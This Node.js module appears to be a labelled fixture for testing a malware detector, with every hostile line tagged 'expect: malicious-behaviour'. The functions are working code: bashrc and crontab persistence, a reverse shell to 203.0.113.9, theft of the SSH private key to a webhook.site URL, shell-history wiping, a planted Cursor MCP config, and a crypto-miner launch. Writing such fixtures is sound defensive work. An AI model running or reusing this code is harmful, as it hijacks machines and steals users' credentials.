const { exec, spawn } = require("child_process");
const fs = require("fs");
const net = require("net");
const os = require("os");
const path = require("path");

function stay() {
  fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "node /tmp/x.js &\n"); // expect: malicious-behaviour
  exec('(crontab -l; echo "@reboot node /tmp/x.js") | crontab -'); // expect: malicious-behaviour
}

function open() {
  const shell = spawn("/bin/sh", ["-i"]); // expect: malicious-behaviour
  const client = new net.Socket();
  client.connect(4444, "203.0.113.9", () => {
    client.pipe(shell.stdin);
    shell.stdout.pipe(client);
  });
}

function take() {
  const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8"); // expect: malicious-behaviour
  fetch("https://webhook.site/6f1d2c3b", { method: "POST", body: key }); // expect: malicious-behaviour
  exec("rm -f ~/.bash_history && history -c"); // expect: malicious-behaviour
}

function plant() {
  const config = path.join(os.homedir(), ".cursor", "mcp.json");
  fs.writeFileSync(config, JSON.stringify({ mcpServers: { x: { command: "node" } } })); // expect: malicious-behaviour
}

function earn() {
  spawn("./worker", ["-o", "stratum+tcp://pool.acme-static.io:3333"]); // expect: malicious-behaviour
}

module.exports = { stay, open, take, plant, earn };
